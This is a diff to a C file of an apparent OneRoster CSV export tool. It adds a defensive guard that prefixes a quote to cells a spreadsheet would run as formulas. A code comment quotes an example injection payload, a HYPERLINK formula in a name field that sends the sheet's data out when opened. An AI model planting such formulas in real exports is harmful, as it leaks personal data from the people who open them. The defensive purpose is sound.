@@ -2,7 +2,8 @@
  * oneroster_out.c: turns a built bundle into files that a reader never sees
  * half-written.
  *
- * Owns: CSV encoding (RFC 4180 with the OneRoster restrictions), manifest.csv,
+ * Owns: CSV encoding (RFC 4180 with the OneRoster restrictions, the guard
+ * against cells a spreadsheet runs as formulas), manifest.csv,
  * a minimal zip writer (zlib deflate), the publish sequence and the rotation.
  * Must never: write into a published bundle (a new one is a new directory or
  * zip, swapped in by renaming a symlink), publish before every byte and the
@@ -68,17 +69,47 @@ static void buf_le32(struct buf *b, unsigned long v)
 /* ---- CSV ------------------------------------------------------------------ */
 
 /*
+ * Whether a spreadsheet would take the cell for a formula (CSV injection,
+ * OWASP "CSV Injection"): a givenName =HYPERLINK("http://…?"&A1,"x") in
+ * users.csv becomes a live link that sends the sheet's data away when an
+ * administrator opens the file in Excel or LibreOffice. A cell starting with
+ * '=', '@', a tab or a carriage return always is; one starting with '+' or '-'
+ * unless the rest is a plain number or phone number ("+46 70 123 45 67",
+ * "-12.5", and "-", a protected person's name): digits, spaces, parentheses,
+ * '-' and '.' make no function call or reference, and such values are data.
+ */
+static bool formula_like(const char *s)
+{
+    switch (s[0]) {
+    case '=':
+    case '@':
+    case '\t':
+    case '\r':
+        return true;
+    case '+':
+    case '-':
+        return s[1 + strspn(s + 1, "0123456789 ().-")] != '\0';
+    default:
+        return false;
+    }
+}
+
+/*
  * One cell. RFC 4180: a field holding a comma or a double quote is quoted and
  * its quotes doubled. The OneRoster CSV binding forbids carriage returns inside
- * a field (and SDS rejects line breaks), so CR and LF become spaces.
+ * a field (and SDS rejects line breaks), so CR and LF become spaces. With
+ * guard, a cell a spreadsheet would take for a formula starts with a single
+ * quote, which Excel and LibreOffice read as "text" (OWASP's advice).
  */
-static void csv_cell(struct buf *b, const char *s)
+static void csv_cell(struct buf *b, const char *s, bool guard)
 {
     if (!s)
         return;
     bool quote = strpbrk(s, ",\"\r\n") != NULL;
     if (quote)
         buf_put(b, "\"", 1);
+    if (guard && formula_like(s))
+        buf_put(b, "'", 1);
     for (const char *p = s; *p; p++) {
         if (*p == '"')
             buf_put(b, "\"\"", 2);
@@ -92,22 +123,22 @@ static void csv_cell(struct buf *b, const char *s)
 }
 
 /* Lines end in CRLF (RFC 4180 §2); UTF-8 without a byte order mark. */
-static void csv_row(struct buf *b, const char *const *cells, size_t n)
+static void csv_row(struct buf *b, const char *const *cells, size_t n, bool guard)
 {
     for (size_t i = 0; i < n; i++) {
         if (i)
             buf_put(b, ",", 1);
-        csv_cell(b, cells[i]);
+        csv_cell(b, cells[i], guard);
     }
     buf_put(b, "\r\n", 2);
 }
 
-char *or_table_csv(const struct or_table *t, size_t *len)
+char *or_table_csv(const struct or_table *t, bool formula_verbatim, size_t *len)
 {
     struct buf b = {0};
-    csv_row(&b, t->cols, t->n_cols);
+    csv_row(&b, t->cols, t->n_cols, !formula_verbatim);
     for (size_t i = 0; i < t->n; i++)
-        csv_row(&b, (const char *const *)t->rows[i], t->n_cols);
+        csv_row(&b, (const char *const *)t->rows[i], t->n_cols, !formula_verbatim);
     *len = b.n;
     return b.p;
 }
@@ -149,22 +180,23 @@ static const struct or_table *table_named(const struct or_bundle *b, const char 
 char *or_manifest_csv(const struct or_bundle *b, const struct or_publish_opts *o, size_t *len)
 {
     struct buf m = {0};
+    bool guard = !o->formula_verbatim; /* source.systemName comes from the configuration */
     const char *head[] = {"propertyName", "value"};
-    csv_row(&m, head, 2);
+    csv_row(&m, head, 2, guard);
     const char *fixed[][2] = {{"manifest.version", "1.0"}, {"oneroster.version", "1.2"}};
     for (size_t i = 0; i < 2; i++)
-        csv_row(&m, fixed[i], 2);
+        csv_row(&m, fixed[i], 2, guard);
     for (size_t i = 0; i < sizeof(manifest_files) / sizeof(manifest_files[0]); i++) {
         const struct or_table *t = table_named(b, manifest_files[i]);
         char key[64];
         snprintf(key, sizeof(key), "file.%s", manifest_files[i]);
         const char *row[] = {key, t && t->n ? "bulk" : "absent"};
-        csv_row(&m, row, 2);
+        csv_row(&m, row, 2, guard);
     }
     const char *sys[][2] = {{"source.systemName", o->system_name ? o->system_name : "skolsync"},
                             {"source.systemCode", o->system_code ? o->system_code : ""}};
     for (size_t i = 0; i < 2; i++)
-        csv_row(&m, sys[i], 2);
+        csv_row(&m, sys[i], 2, guard);
     *len = m.n;
     return m.p;
 }
@@ -202,7 +234,8 @@ static size_t bundle_files(const struct or_bundle *b, struct file files[OR_N_TAB
 static void file_text(const struct or_bundle *b, const struct or_publish_opts *o, struct file *f)
 {
     f->data =
-        f->table < 0 ? or_manifest_csv(b, o, &f->len) : or_table_csv(&b->t[f->table], &f->len);
+        f->table < 0 ? or_manifest_csv(b, o, &f->len)
+                     : or_table_csv(&b->t[f->table], o->formula_verbatim, &f->len);
 }
 
 static void file_done(struct file *f)
